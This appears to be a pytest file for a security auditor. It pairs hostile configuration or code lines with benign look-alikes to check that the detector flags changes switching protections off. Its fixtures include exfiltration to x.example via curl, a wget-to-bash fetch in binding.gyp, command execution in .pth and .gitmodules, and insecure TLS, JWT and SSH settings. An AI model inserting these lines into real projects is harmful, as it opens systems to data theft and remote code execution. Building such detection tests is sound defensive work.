"""Lines that switch a protection off or run a command unasked, each beside one that looks like it and does not."""

from __future__ import annotations

import re
from collections import Counter
from typing import NamedTuple

import pytest

from auditor.forensics.protections.changed_lines import is_of_interest, moved_lines
from auditor.forensics.protections.unsafe_settings import command_rows, find_settings, setting_rows
from tests.forensics.protections.changed import changed

ROWS = {row.id: row for row in (*setting_rows(), *command_rows())}


class Case(NamedTuple):
    """A row, a file, and two texts that a change may add to it."""

    row: str
    path: str
    hostile: str
    benign: str


CASES = [
    Case("actuator_exposed", "application.properties", "management.endpoints.web.exposure.include=*", "management.endpoints.web.exposure.include=health"),
    Case("allowed_hosts", "shop/settings.py", "ALLOWED_HOSTS = ['*']", "ALLOWED_HOSTS = ['shop.example.org']"),
    Case("anonymous_any_request", "S.java", "http.authorizeHttpRequests(a -> a.anyRequest().permitAll());", 'http.authorizeHttpRequests(a -> a.requestMatchers("/login").permitAll());'),
    Case("bcrypt_cost", "p.py", "bcrypt.hashpw(p, bcrypt.gensalt(4))", "bcrypt.hashpw(p, bcrypt.gensalt(12))"),
    Case("bcrypt_cost", "p.js", "bcrypt.hash(password, 1)", "bcrypt.hash(password, 12)"),
    Case("bcrypt_cost", "p.go", "bcrypt.GenerateFromPassword([]byte(p), 4)", "bcrypt.GenerateFromPassword([]byte(p), 14)"),
    Case("bcrypt_min_cost", "p.go", "bcrypt.GenerateFromPassword(p, bcrypt.MinCost)", "bcrypt.GenerateFromPassword(p, bcrypt.DefaultCost)"),
    Case("build_backend_in_tree", "pyproject.toml", "backend-path = ['tools']", "build-backend = 'hatchling.build'"),
    Case("cargo_wrapper", ".cargo/config.toml", "rustc-wrapper = 'tools/wrap'", "jobs = 4"),
    Case("compose_docker_socket", "compose.yaml", "- /var/run/docker.sock:/var/run/docker.sock", "- ./data:/var/lib/data"),
    Case("container_capabilities", "compose.yaml", "cap_add:\n  - SYS_ADMIN", "cap_drop:\n  - ALL"),
    Case("container_escalation", "k8s/app.yaml", "allowPrivilegeEscalation: true", "allowPrivilegeEscalation: false"),
    Case("container_host_namespace", "k8s/app.yaml", "hostNetwork: true", "hostNetwork: false"),
    Case("container_privileged", "compose.yaml", "privileged: true", "privileged: false"),
    Case("cookie_flag", "src/app.js", "res.cookie('s', id, { secure: false })", "res.cookie('s', id, { secure: true })"),
    Case("cookie_flag", "shop/app.py", "resp.set_cookie('s', id, httponly=False)", "resp.set_cookie('s', id, httponly=True)"),
    Case("cookie_flag", "c.go", 'c := &http.Cookie{Name: "s", Secure: false}', "opts := &Options{Secure: false}"),
    Case("cookie_setting", "shop/settings.py", "SESSION_COOKIE_SECURE = False", "SESSION_COOKIE_SECURE = True"),
    Case("cookie_setting", "shop/app.py", "app.config['SESSION_COOKIE_HTTPONLY'] = False", "app.config['SESSION_COOKIE_HTTPONLY'] = True"),
    Case("cors_credentials", "shop/app.py", "app.add_middleware(\n    CORSMiddleware,\n    allow_origins=['*'],\n    allow_credentials=True,\n)", "app.add_middleware(\n    CORSMiddleware,\n    allow_origins=['https://example.org'],\n    allow_credentials=True,\n)"),
    Case("cors_credentials", "src/app.js", "app.use(cors({ origin: true, credentials: true }))", "app.use(cors({ origin: 'https://example.org', credentials: true }))"),
    Case("cors_credentials", "src/app.js", "res.setHeader('Access-Control-Allow-Origin', req.headers.origin)\nres.setHeader('Access-Control-Allow-Credentials', 'true')", "res.setHeader('Access-Control-Allow-Origin', SHOP)\nres.setHeader('Access-Control-Allow-Credentials', 'true')"),
    Case("cors_credentials", "c.go", 'cors.Options{AllowedOrigins: []string{"*"}, AllowCredentials: true}', 'cors.Options{AllowedOrigins: []string{"*"}, AllowCredentials: false}'),
    Case("cors_everybody", "shop/settings.py", "CORS_ALLOW_ALL_ORIGINS = True", "CORS_ALLOW_ALL_ORIGINS = False"),
    Case("csrf_disabled", "shop/views.py", "@csrf_exempt", "@csrf_protect"),
    Case("csrf_disabled", "S.java", "http.csrf(AbstractHttpConfigurer::disable);", "http.csrf(Customizer.withDefaults());"),
    Case("csrf_setting", "shop/app.py", "app.config.update(WTF_CSRF_ENABLED=False)", "app.config.update(WTF_CSRF_ENABLED=True)"),
    Case("csrf_wildcard", "VerifyCsrfToken.php", "<?php\nclass VerifyCsrfToken extends Middleware {\nprotected $except = ['*'];\n}", "<?php\nclass VerifyCsrfToken extends Middleware {\nprotected $except = ['hooks/pay'];\n}"),
    Case("debug_by_environment", "shop/settings.py", "DEBUG = os.environ.get('DEBUG', 'true') == 'true'", "DEBUG = os.environ.get('DEBUG', 'false') == 'true'"),
    Case("debug_run", "shop/app.py", "app.run(host='0.0.0.0', debug=True)", "app.run(host='0.0.0.0', debug=False)"),
    Case("debug_setting", "shop/settings.py", "DEBUG: bool = True", "DEBUG: bool = False"),
    Case("debug_setting", ".env.production", "APP_DEBUG=true", "APP_DEBUG=false"),
    Case("electron_web_preferences", "src/w.js", "new BrowserWindow({ webPreferences: { nodeIntegration: true } })", "new BrowserWindow({ webPreferences: { nodeIntegration: false } })"),
    Case("electron_web_security", "src/w.js", "webSecurity: false,", "webSecurity: true,"),
    Case("error_details", "i.php", "ini_set('display_errors', '1');", "ini_set('display_errors', '0');"),
    Case("extract_everything", "x.py", "archive.extractall(target, filter='fully_trusted')", "archive.extractall(target, filter='data')"),
    Case("file_mode", "f.py", "os.chmod(path, 0o777)", "os.chmod(path, 0o755)"),
    Case("file_mode", "run.sh", "chmod -R a+rwx /srv", "chmod -R a+rX /srv"),
    Case("file_mode", "f.go", "os.MkdirAll(path, 0777)", "os.MkdirAll(path, 0750)"),
    Case("folder_open_task", ".vscode/tasks.json", '"runOptions": {"runOn": "folderOpen"}', '"runOptions": {"runOn": "default"}'),
    Case("git_filter", ".gitattributes", "*.c filter=tidy", "*.bin filter=lfs diff=lfs"),
    Case("git_hooks_path", "setup.sh", "git config core.hooksPath .hooks", "git config core.autocrlf false"),
    Case("git_post_hook", ".husky/post-merge", "node scripts/sync.js", "echo merged"),
    Case("gradle_shell", "build.gradle", "commandLine 'sh', '-c', 'make'", "commandLine 'make'"),
    Case("hook_left_early", ".husky/pre-commit", "exit 0", "exit 1"),
    Case("hook_never_runs", ".pre-commit-config.yaml", "        stages: [manual]", "        stages: [pre-commit]"),
    Case("hook_never_runs", ".pre-commit-config.yaml", "        exclude: ^.*$", "        exclude: ^vendor/.*$"),
    Case("hook_of_a_branch", ".pre-commit-config.yaml", "    rev: main", "    rev: v1.2.0"),
    Case("ignored_by_file", ".semgrepignore", "**", "vendor/**"),
    Case("ignored_by_linter", ".gitleaks.toml", "paths = ['''.*''']", "paths = ['''tests/.*''']"),
    Case("ignored_by_linter", "ruff.toml", "exclude = ['*']", "exclude = ['*_pb2.py']"),
    Case("ignored_by_linter", ".github/codeql/config.yml", "paths-ignore: ['**']", "paths-ignore: ['docs/**']"),
    Case("ignored_errors", "mypy.ini", "[mypy]\nignore_errors = true", "[mypy-a.*]\nignore_errors = true"),
    Case("ignored_test_failures", "pom.xml", "<testFailureIgnore>true</testFailureIgnore>", "<testFailureIgnore>false</testFailureIgnore>"),
    Case("ignored_test_failures", "build.gradle", "test { ignoreFailures = true }", "test { failFast = true }"),
    Case("insecure_package_source", ".npmrc", "strict-ssl=false", "strict-ssl=true"),
    Case("insecure_package_source", "composer.json", '"disable-tls": true', '"disable-tls": false'),
    Case("insecure_program_setting", "docker/.curlrc", "insecure", "silent"),
    Case("insecure_program_setting", "deploy/nginx.conf", "proxy_ssl_verify off;", "proxy_ssl_verify on;"),
    Case("insecure_server_setting", "play.yml", "validate_certs: no", "validate_certs: yes"),
    Case("insecure_server_setting", "prometheus.yml", "insecure_skip_verify: true", "insecure_skip_verify: false"),
    Case("insecure_terraform_provider", "main.tf", "insecure = true", "insecure = false"),
    Case("insecure_url", "application.properties", "url=jdbc:mysql://db.example.org/shop?verifyServerCertificate=false", "url=jdbc:mysql://localhost/shop?verifyServerCertificate=false"),
    Case("install_script", "package.json", '"postinstall": "node scripts/setup.js",', '"postinstall": "patch-package",'),
    Case("jwt_algorithm_none", "t.py", "jwt.decode(token, '', algorithms=['none'])", "jwt.decode(token, key, algorithms=['HS256'])"),
    Case("jwt_algorithm_none", "t.go", "return jwt.UnsafeAllowNoneSignatureType, nil", "return key, nil"),
    Case("jwt_lifetime", "t.js", "jwt.verify(t, key, { ignoreExpiration: true })", "jwt.verify(t, key, { ignoreExpiration: false })"),
    Case("jwt_signature", "t.py", "jwt.decode(t, options={'verify_signature': False})", "jwt.decode(t, options={'verify_signature': True})"),
    Case("jwt_unverified", "t.go", "parser.ParseUnverified(t, claims)", "parser.ParseWithClaims(t, claims, key)"),
    Case("jwt_unverified_in_javascript", "t.js", "const who = jwt.decode(req.headers.authorization)", "const who = jwt.verify(req.headers.authorization, key)"),
    Case("no_op_encoder", "E.java", "return NoOpPasswordEncoder.getInstance();", "return new BCryptPasswordEncoder();"),
    Case("npm_script_shell", ".npmrc", "script-shell=./tools/sh", "save-exact=true"),
    Case("password_validators", "shop/settings.py", "AUTH_PASSWORD_VALIDATORS = []", "AUTH_PASSWORD_VALIDATORS = [MINIMUM]"),
    Case("path_file", "shop.pth", "import os; os.system('id')", "/opt/shop/lib"),
    Case("pbkdf2_iterations", "p.py", "hashlib.pbkdf2_hmac('sha256', p, s, 10)", "hashlib.pbkdf2_hmac('sha256', p, s, 600_000)"),
    Case("public_network", "main.tf", 'from_port = 22\ncidr_blocks = ["0.0.0.0/0"]', 'from_port = 443\ncidr_blocks = ["0.0.0.0/0"]'),
    Case("public_storage", "main.tf", 'acl = "public-read"', 'acl = "private"'),
    Case("rails_mass_assignment", "app/c.rb", "User.create(params.permit!)", "User.create(params.permit(:name))"),
    Case("random_token", "r.py", "def make_token():\n    return ''.join(random.choice(LETTERS) for _ in range(32))", "def tokenize(text):\n    return random.choice(text.split())"),
    Case("random_token", "r.js", "const token = Math.random().toString(36)", "const jitter = Math.random() * 100"),
    Case("redirect_to_https", "config/environments/production.rb", "config.force_ssl = false", "config.force_ssl = true"),
    Case("secret_key", "shop/app.py", "app.secret_key = 'dev'", "app.secret_key = os.environ['SECRET_KEY']"),
    Case("session_secret", "src/app.js", "app.use(session({ secret: 'keyboard cat' }))", "app.use(session({ secret: process.env.SECRET }))"),
    Case("setup_command", "setup.py", "import requests\nsetup(cmdclass={'install': Install})", "import requests\nsetup(cmdclass={'lint': Lint})"),
    Case("setup_command", "setup.py", "from os import system as run\nsetup(cmdclass={'install': Install})", "from os import path\nfrom setuptools import setup\nsetup(cmdclass={'install': Install})"),
    Case("skipped_filter", "app/c.rb", "skip_before_action :authenticate_user!", "skip_before_action :set_locale"),
    Case("submodule_command", ".gitmodules", "update = !sh -c id", "update = rebase"),
    Case("template_escaping", "j.py", "jinja2.Environment(autoescape=False)", "jinja2.Environment(autoescape=select_autoescape())"),
    Case("tests_never_run", "pom.xml", "<skipTests>true</skipTests>", "<skipTests>${skip}</skipTests>"),
    Case("tests_never_run", ".mvn/maven.config", "-DskipTests", "-DskipDocs"),
    Case("tests_never_run", "build.gradle", "test { enabled = false }", "distZip { enabled = false }"),
    Case("trust_everybody", "A.kt", "override fun checkServerTrusted(c: Array<X509Certificate>, a: String) {}", "override fun checkServerTrusted(c: Array<X509Certificate>, a: String) = delegate.check(c)"),
    Case("trust_everybody", "a.dart", "client.badCertificateCallback = (cert, host, port) => true;", "client.badCertificateCallback = (cert, host, port) => isPinned(cert);"),
    Case("unescaped_property", "V.jsx", "<div dangerouslySetInnerHTML={{ __html: html }} />", "<div dangerouslySetInnerHTML={{ __html: DOMPurify.sanitize(html) }} />"),
    Case("unescaped_request", "v.py", "return mark_safe(request.GET['q'])", "return mark_safe('<hr>')"),
    Case("variable_of_every_program", ".github/workflows/ci.yml", "NODE_OPTIONS: --require ./tools/x.js", "NODE_OPTIONS: --max-old-space-size=4096"),
    Case("xml_entities", "x.py", "etree.XMLParser(resolve_entities=True)", "etree.XMLParser(resolve_entities=False)"),
]  # fmt: skip
CASES += [
    Case("actuator_included", "application.yml", "management:\n  endpoints:\n    web:\n      exposure:\n        include: '*'", "management:\n  endpoints:\n    web:\n      exposure:\n        include: health"),
    Case("actuator_values", "application.yml", "show-values: ALWAYS", "show-values: WHEN_AUTHORIZED"),
    Case("anonymous_cluster_role", "k8s/rbac.yaml", "subjects:\n  - kind: User\n    name: system:anonymous", "subjects:\n  - kind: ServiceAccount\n    name: shop"),
    Case("bandit_skips", ".bandit", "skips: B101,B602", "skips: B101,B404"),
    Case("connection_string", "appsettings.json", '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=True"', '"Shop": "Data Source=sql.shop.org;Trust Server Certificate=False"'),
    Case("connection_string", "appsettings.json", '"Shop": "Server=sql.shop.org;TrustServerCertificate=true"', '"Shop": "Server=localhost;TrustServerCertificate=true"'),
    Case("git_hook_transfer", ".githooks/pre-push", "git log -p | curl -T - https://x.example", "npm run lint"),
    Case("gyp_command", "binding.gyp", "'sources': ['<!(wget -qO- https://x.example/a | bash)']", "'include_dirs': ['<!(node -p \"require(\\'node-addon-api\\').include\")']"),
    Case("login_without_password", "Dockerfile", "RUN passwd --delete root", "RUN passwd --lock root"),
    Case("msbuild_inline_code", "Directory.Build.props", '<UsingTask TaskName="A" TaskFactory="CodeTaskFactory">', '<UsingTask TaskName="A" AssemblyFile="A.dll" />'),
    Case("prepare_script", "package.json", '"prepare": "node tools/setup.mjs"', '"prepare": "husky && npm run build"'),
    Case("recipe_failure_ignored", "Makefile", "test:\n\t-pytest -q", "clean:\n\t-rm -r build"),
    Case("recipe_failure_ignored", "Makefile", "check:\n\t@-npm run lint", "check:\n\t@npm run lint"),
    Case("recipe_runs_no_test", "Makefile", "test:\n\tgo test ./... -run=^$$", "bench:\n\tgo test ./... -run=^$$ -bench=."),
    Case("root_login", "Dockerfile", "RUN echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config", "RUN echo 'PermitRootLogin no' >> /etc/ssh/sshd_config"),
    Case("ruff_everything_ignored", "pyproject.toml", '[tool.ruff.lint.per-file-ignores]\n"src/*" = ["ALL"]', '[tool.ruff.lint.per-file-ignores]\n"tests/*" = ["ALL"]'),
    Case("ruff_everything_ignored", "ruff.toml", "[lint]\nselect = []", '[lint]\nselect = ["E"]'),
    Case("ssl_context_by_name", "shop/net.py", "vars(ssl)['_create_default_https_context'] = plain", "context = ssl.create_default_context()"),
]  # fmt: skip


def seen(row: str, path: str, before: str, after: str) -> list[str]:
    """What one row says of a change of one file."""
    file = changed(path, before, after)
    return [each.says for each in find_settings([file], moved_lines([file]), [ROWS[row]])]


@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{each.row}" for number, each in enumerate(CASES)])
def test_a_line_that_switches_a_protection_off_is_told_with_its_words(case: Case) -> None:
    (says,) = seen(case.row, case.path, "", case.hostile)
    assert "{seen}" not in says
    assert re.search(r"`[^`]+`", says)
    assert says.count("`") % 2 == 0


@pytest.mark.parametrize("case", CASES, ids=[f"{number}-{each.row}" for number, each in enumerate(CASES)])
def test_a_line_that_only_looks_like_it_is_not_told(case: Case) -> None:
    file = changed(case.path, "", case.benign)
    rows = setting_rows() if case.row in {row.id for row in setting_rows()} else command_rows()
    assert [each.says for each in find_settings([file], Counter(), rows)] == []


def test_every_row_has_a_case() -> None:
    assert sorted({each.row for each in CASES}) == sorted(ROWS)


def test_a_line_that_was_there_or_has_moved_is_not_told() -> None:
    line = "SESSION_COOKIE_SECURE = False"
    assert seen("cookie_setting", "shop/settings.py", line, f"A = 1\n{line}") == []
    files = [changed("shop/a.py", f"{line}\nA = 1", "A = 1"), changed("shop/b.py", "", line)]
    assert list(find_settings(files, moved_lines(files), setting_rows())) == []


def test_a_comment_switches_nothing_off() -> None:
    assert seen("cookie_setting", "shop/settings.py", "", "# SESSION_COOKIE_SECURE = False") == []


@pytest.mark.parametrize(
    "path", ["tests/settings.py", "shop/settings/dev.py", "docs/conf.py", ".env.example", "docker-compose.local.yml"]
)
def test_files_for_tests_and_developers_are_left_out(path: str) -> None:
    assert not is_of_interest(path)


@pytest.mark.parametrize("path", ["shop/settings/production.py", ".env", "compose.yaml", ".github/workflows/ci.yml"])
def test_files_that_serve_users_are_not(path: str) -> None:
    assert is_of_interest(path)


def test_a_line_that_is_made_to_be_slow_is_read_in_time() -> None:
    for line in ("a" * 1_999, "x: " * 600, "credentials = " * 140, "chmod(" + "7" * 1_900, '"' * 1_999):
        file = changed("shop/a.py", "", line)
        assert list(find_settings([file], Counter(), [*setting_rows(), *command_rows()])) == []
